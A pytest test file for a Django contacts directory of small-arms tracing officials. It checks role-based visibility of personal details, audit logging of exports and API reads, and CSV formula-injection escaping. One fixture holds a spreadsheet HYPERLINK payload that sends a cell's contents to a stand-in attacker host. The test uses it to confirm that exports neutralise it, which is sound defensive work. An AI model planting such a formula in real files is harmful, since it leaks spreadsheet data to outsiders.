"""Who sees what of the directory, on every path: page, entry, CSV, vCard, API, history."""

import pytest
from django.urls import reverse

from smallarms.audit.models import Entry
from smallarms.conftest import verified_login

pytestmark = pytest.mark.django_db

PERSONAL = ("Achieng Odhiambo", "tracing@police.ke.example", "+254 20 555 0101", "P.O. Box 1")


@pytest.fixture
def researcher(make_user):
    """Signed in, but no role: not an official."""
    return make_user("researcher@example.org")


def assert_public_only(text):
    assert "National Police Service" in text
    for value in PERSONAL:
        assert value not in text


def assert_personal(text):
    for value in ("Achieng Odhiambo", "tracing@police.ke.example", "+254 20 555 0101"):
        assert value in text


# Pages -----------------------------------------------------------------------------------


def test_anonymous_visitor_sees_the_public_part_of_the_directory(client, kenya_iti):
    response = client.get(reverse("contacts:contact_list"))
    assert response.status_code == 200
    assert_public_only(response.content.decode())
    assert "Download vCards" not in response.content.decode()


@pytest.mark.parametrize("user", ["researcher", "provider_norway"])
def test_signed_in_people_who_are_not_officials_see_the_public_part(
    client, kenya_iti, user, request
):
    client.force_login(request.getfixturevalue(user))
    for url in (
        reverse("contacts:contact_list"),
        kenya_iti.get_absolute_url(),
        reverse("contacts:state_contacts", args=["KEN"]),
    ):
        assert_public_only(client.get(url).content.decode())


def test_an_official_of_another_state_sees_the_personal_details(client, kenya_iti, npc_ghana):
    client.force_login(npc_ghana)
    for url in (
        reverse("contacts:contact_list"),
        kenya_iti.get_absolute_url(),
        reverse("contacts:state_contacts", args=["KEN"]),
    ):
        assert_personal(client.get(url).content.decode())
    # … but may not change them.
    page = client.get(kenya_iti.get_absolute_url()).content.decode()
    assert reverse("contacts:contact_update", args=[kenya_iti.pk]) not in page


def test_secretariat_sees_personal_details_only_after_its_second_factor(
    client, kenya_iti, secretariat
):
    client.force_login(secretariat)
    assert_public_only(client.get(kenya_iti.get_absolute_url()).content.decode())
    verified_login(client, secretariat)
    assert_personal(client.get(kenya_iti.get_absolute_url()).content.decode())


def test_the_history_is_shown_to_officials_only(client, kenya_iti, npc_ghana):
    page = client.get(kenya_iti.get_absolute_url()).content.decode()
    assert "History" not in page
    client.force_login(npc_ghana)
    page = client.get(kenya_iti.get_absolute_url()).content.decode()
    assert "History" in page


def test_the_audit_history_of_an_entry_is_closed_to_those_who_may_not_see_its_details(
    client, kenya_iti, researcher, npc_ghana
):
    url = reverse("audit:object_history", args=["contacts", "contact", kenya_iti.pk])
    client.force_login(researcher)
    assert client.get(url).status_code == 404
    client.force_login(npc_ghana)
    assert client.get(url).status_code == 200


def test_an_unknown_entry_answers_404(client):
    url = reverse("contacts:contact_detail", args=["00000000-0000-0000-0000-000000000000"])
    assert client.get(url).status_code == 404


def test_search_finds_names_only_for_those_who_may_see_them(client, kenya_iti, npc_ghana):
    url = reverse("contacts:contact_list")
    assert "National Police Service" not in client.get(url, {"q": "odhiambo"}).content.decode()
    assert "National Police Service" in client.get(url, {"q": "police"}).content.decode()
    client.force_login(npc_ghana)
    assert "National Police Service" in client.get(url, {"q": "odhiambo"}).content.decode()


def test_directory_filters_by_state_region_and_kind(client, kenya_iti):
    url = reverse("contacts:contact_list")
    assert "National Police Service" in client.get(url, {"state": "KEN"}).content.decode()
    assert "National Police Service" not in client.get(url, {"state": "GHA"}).content.decode()
    eastern_africa = client.get(url, {"region": "014"}).content.decode()
    assert "National Police Service" in eastern_africa
    assert "National Police Service" not in client.get(url, {"region": "011"}).content.decode()
    kind = client.get(url, {"kind": "poa_point_of_contact"}).content.decode()
    assert "National Police Service" not in kind


# CSV -------------------------------------------------------------------------------------


def test_open_csv_export_has_no_personal_columns_and_is_audited(client, kenya_iti):
    response = client.get(reverse("contacts:contact_export"))
    text = response.content.decode("utf-8-sig")
    header = text.splitlines()[0].split(",")
    assert "institution" in header
    assert "person_name" not in header and "emails" not in header
    assert_public_only(text)
    entry = Entry.objects.filter(event="export").latest("id")
    assert entry.data["export"] == "points-of-contact"
    assert entry.data["rows"] == 1


def test_official_csv_export_has_the_whole_entry(client, kenya_iti, npc_ghana):
    client.force_login(npc_ghana)
    text = client.get(reverse("contacts:contact_export")).content.decode("utf-8-sig")
    assert "person_name" in text.splitlines()[0]
    assert_personal(text)
    entry = Entry.objects.filter(event="export").latest("id")
    assert entry.actor == npc_ghana


# vCard -----------------------------------------------------------------------------------


@pytest.mark.parametrize("user", [None, "researcher", "provider_norway"])
def test_vcards_are_not_for_the_public(client, kenya_iti, user, request):
    if user:
        client.force_login(request.getfixturevalue(user))
    assert client.get(reverse("contacts:contact_vcards")).status_code == 404
    assert client.get(reverse("contacts:contact_vcard", args=[kenya_iti.pk])).status_code == 404
    assert not Entry.objects.filter(event="export").exists()


def test_an_official_downloads_vcards_and_the_export_is_audited(client, kenya_iti, npc_ghana):
    client.force_login(npc_ghana)
    response = client.get(reverse("contacts:contact_vcard", args=[kenya_iti.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/vcard; charset=utf-8"
    card = response.content.decode()
    assert "BEGIN:VCARD" in card and "FN:Achieng Odhiambo" in card
    assert "EMAIL;TYPE=INTERNET:tracing@police.ke.example" in card
    assert "ORG:National Police Service;Firearms Tracing Unit" in card
    entry = Entry.objects.get(event="export")
    assert (entry.actor, entry.data["format"], entry.object_id) == (
        npc_ghana,
        "vcard",
        str(kenya_iti.pk),
    )
    cards = client.get(reverse("contacts:contact_vcards"), {"state": "KEN"}).content.decode()
    assert cards.count("BEGIN:VCARD") == 1
    assert Entry.objects.filter(event="export").latest("id").data["filters"] == {"state": "KEN"}


# API -------------------------------------------------------------------------------------


def test_api_gives_the_public_part_to_anonymous_callers(client, kenya_iti):
    data = client.get("/api/contacts/").json()
    item = data["results"][0]
    assert item["institution"] == "National Police Service"
    assert item["kind"] == "iti_point_of_contact"
    assert item["working_languages"] == ["en", "sw"]
    for field in ("person_name", "title", "emails", "telephones", "postal_address"):
        assert field not in item
    assert client.get(f"/api/contacts/{kenya_iti.pk}/history/").status_code == 404


def test_api_gives_officials_the_whole_entry_and_its_history(client, kenya_iti, npc_ghana):
    client.force_login(npc_ghana)
    item = client.get(f"/api/contacts/{kenya_iti.pk}/").json()
    assert item["person_name"] == "Achieng Odhiambo"
    assert item["emails"] == ["tracing@police.ke.example"]
    history = client.get(f"/api/contacts/{kenya_iti.pk}/history/").json()
    assert [(v["number"], v["source"]) for v in history] == [(1, "import")]


def test_api_search_does_not_reveal_who_holds_a_post(client, kenya_iti, npc_ghana):
    assert client.get("/api/contacts/", {"q": "odhiambo"}).json()["count"] == 0
    client.force_login(npc_ghana)
    assert client.get("/api/contacts/", {"q": "odhiambo"}).json()["count"] == 1


def reads():
    return list(Entry.objects.filter(event="read").order_by("sequence"))


def test_personal_details_read_through_the_api_are_recorded_like_the_export(
    client, kenya_iti, npc_ghana
):
    client.force_login(npc_ghana)
    listing = client.get("/api/contacts/", {"page_size": 500, "state": "KEN", "kind": ""})
    assert listing.json()["results"][0]["person_name"] == "Achieng Odhiambo"
    client.get(f"/api/contacts/{kenya_iti.pk}/")
    client.get(f"/api/contacts/{kenya_iti.pk}/history/")
    listed, detail, history = reads()
    assert listed.actor == npc_ghana and listed.object_type == ""
    assert listed.data == {
        "read": "points-of-contact",
        "via": "api",
        "filters": {"page_size": "500", "state": "KEN"},
        "rows": 1,
    }
    assert (detail.object_type, detail.object_id) == ("contacts.contact", str(kenya_iti.pk))
    assert detail.data == {"read": "points-of-contact", "via": "api", "rows": 1}
    assert history.object_id == str(kenya_iti.pk)
    assert history.data == {"read": "points-of-contact", "via": "api", "history": True, "rows": 1}


@pytest.mark.parametrize("user", [None, "researcher"])
def test_the_public_part_read_through_the_api_is_not_recorded(client, kenya_iti, user, request):
    if user:
        client.force_login(request.getfixturevalue(user))
    assert client.get("/api/contacts/", {"page_size": 500}).status_code == 200
    assert client.get(f"/api/contacts/{kenya_iti.pk}/").status_code == 200
    assert client.get(f"/api/contacts/{kenya_iti.pk}/history/").status_code == 404
    assert reads() == []


# In a spreadsheet ------------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://attacker.example/?"&A2,"Open")'


@pytest.fixture
def formula_entry(kenya_iti):
    from smallarms.contacts import services

    return services.update_contact(
        acting_user=None, contact=kenya_iti, institution=FORMULA, source="import"
    )


def test_an_institution_typed_as_a_formula_is_text_in_the_csv_export(
    client, formula_entry, npc_ghana
):
    import csv
    import io

    client.force_login(npc_ghana)
    text = client.get(reverse("contacts:contact_export")).content.decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text))
    # A telephone begins with "+" and is more than a number: a spreadsheet would take it for
    # a formula too.
    assert (row["institution"], row["telephones"]) == ("'" + FORMULA, "'+254 20 555 0101")


def test_the_vcard_keeps_the_institution_exactly(client, formula_entry, npc_ghana):
    # Address books do not evaluate formulas: a vCard carries what was typed.
    client.force_login(npc_ghana)
    import vobject

    response = client.get(reverse("contacts:contact_vcard", args=[formula_entry.pk]))
    card = vobject.readOne(response.content.decode())
    assert card.org.value == [FORMULA, "Firearms Tracing Unit"]
